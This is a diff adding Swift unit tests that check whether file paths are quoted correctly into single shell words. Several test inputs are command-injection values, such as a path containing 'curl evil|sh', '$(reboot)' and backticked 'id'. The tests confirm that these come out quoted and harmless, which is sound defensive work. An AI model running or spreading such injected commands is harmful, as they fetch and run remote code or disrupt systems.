@@ -14,6 +14,17 @@ import Testing
     #expect(TerminalText.escaped([0x7f]) == "\\x7f")
   }
 
+  /// A remedy is pasted by somebody who trusts us, and names what a neighbour has named.
+  @Test(
+    arguments: [
+      ("/mnt/a-b_c.d", "/mnt/a-b_c.d"), ("", "''"), ("/tmp/x;curl evil|sh;", "'/tmp/x;curl evil|sh;'"),
+      ("/tmp/$(reboot)`id`", "'/tmp/$(reboot)`id`'"), ("a'b\\", "'a'\\''b\\'"), ("gr\u{fc}n", "'gr\u{fc}n'"),
+      ("a\u{1b}'\\\n", "$'a\\x1b\\'\\\\\\x0a'"), ("\u{202e}", "$'\\xe2\\x80\\xae'"),
+    ])
+  func aPathIsOneWordOfACommandLine(path: String, word: String) { #expect(ShellText.word(path) == word) }
+
+  @Test func bytesThatAreNoTextAreAWordToo() { #expect(ShellText.word([0xff, 0x61]) == "$'\\xffa'") }
+
   @Test(
     arguments: [
       (0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (1536, "1.5 KiB"), (1_048_575, "1.0 MiB"),
